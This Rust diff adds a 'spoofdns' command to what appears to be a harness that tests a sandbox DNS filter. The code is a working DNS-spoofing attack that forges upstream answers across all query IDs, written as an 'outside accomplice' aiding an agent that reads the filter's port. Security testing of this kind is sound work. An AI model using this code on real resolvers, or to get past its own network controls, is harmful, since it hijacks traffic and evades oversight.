@@ -44,6 +44,13 @@ pub fn main(args: &[String]) -> i32 {
             arg(2).parse().expect("N"),
             arg(3).parse().expect("SECS"),
         ),
+        "spoofdns" => spoofdns(
+            arg(1).parse().expect("UPSTREAM"),
+            arg(2).parse().expect("VICTIM:PORT"),
+            arg(3),
+            arg(4).parse().expect("FORGED-IP"),
+            arg(5).parse().expect("SECS"),
+        ),
         "dnsraw" => dnsraw(arg(1).parse().expect("SERVER:PORT"), &args[2..]),
         "tcpflood" => tcpflood(
             arg(1).parse().expect("SERVER:PORT"),
@@ -295,6 +302,56 @@ fn tcpdribble(server: SocketAddr, n: usize, secs: u64) -> serde_json::Value {
         Ok(len) => format!("answered ({len} bytes)"),
         Err(e) => e.to_string(),
     }})
+}
+
+/// The outside accomplice (root, off the path, able to forge its source):
+/// answers for `name` with `forged`, from the upstream resolver's address
+/// and port to the DNS filter's upstream socket, cycling through all 65536
+/// query ids for `secs`. The filter's socket, and so its port, lives as
+/// long as the filter; the agent reads it from /proc/net/udp.
+fn spoofdns(
+    upstream: std::net::Ipv4Addr,
+    victim: SocketAddr,
+    name: &str,
+    forged: std::net::Ipv4Addr,
+    secs: u64,
+) -> serde_json::Value {
+    let fd = socket(
+        AddressFamily::Inet,
+        SockType::Datagram,
+        SockFlag::empty(),
+        None,
+    )
+    .expect("socket");
+    setsockopt(&fd, sockopt::IpTransparent, &true).expect("IP_TRANSPARENT (run as root)");
+    bind(
+        std::os::fd::AsRawFd::as_raw_fd(&fd),
+        &SockaddrStorage::from(SocketAddr::new(upstream.into(), 53)),
+    )
+    .expect("bind");
+    let s = UdpSocket::from(fd);
+    let mut m = Message::new(0, MessageType::Response, OpCode::Query);
+    m.metadata.recursion_desired = true;
+    m.metadata.recursion_available = true;
+    let n = Name::from_ascii(format!("{name}.")).expect("name");
+    m.add_query(Query::query(n.clone(), RecordType::A));
+    m.add_answer(hickory_proto::rr::Record::from_rdata(
+        n,
+        300,
+        hickory_proto::rr::RData::A(forged.into()),
+    ));
+    let mut pkt = m.to_vec().expect("encode");
+    let t = Instant::now();
+    let mut sent = 0u64;
+    while t.elapsed() < Duration::from_secs(secs) {
+        for id in 0..=u16::MAX {
+            pkt[..2].copy_from_slice(&id.to_be_bytes());
+            if s.send_to(&pkt, victim).is_ok() {
+                sent += 1;
+            }
+        }
+    }
+    json!({"sent": sent})
 }
 
 /// Send each hex-encoded packet over UDP; report the reply's rcode.
